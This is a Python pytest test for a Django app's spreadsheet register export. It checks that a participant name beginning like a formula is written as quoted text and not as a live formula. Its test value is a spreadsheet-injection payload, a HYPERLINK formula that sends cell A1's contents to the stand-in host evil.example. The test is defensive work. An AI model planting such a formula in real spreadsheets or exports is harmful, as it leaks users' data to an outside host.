"""The issuing register writes a name that starts like a formula as a text cell."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.certificates.helpers import collate

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'


def test_the_register_holds_a_formula_like_name_as_text(course, client):
    manh = course.people["manh"]
    manh.full_name = HYPERLINK
    manh.save(update_fields=["full_name"])
    collate(course)
    client.force_login(course.rush.organiser)

    answer = client.get(reverse("certificates:register_export", args=[course.programme.pk]))

    sheet = load_workbook(io.BytesIO(answer.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    [name] = [cell for cell in cells if cell.value == HYPERLINK]
    assert name.data_type == "s" and name.quotePrefix
    assert [row[0].value for row in sheet.iter_rows(min_row=3)] == [1, 2, 3]
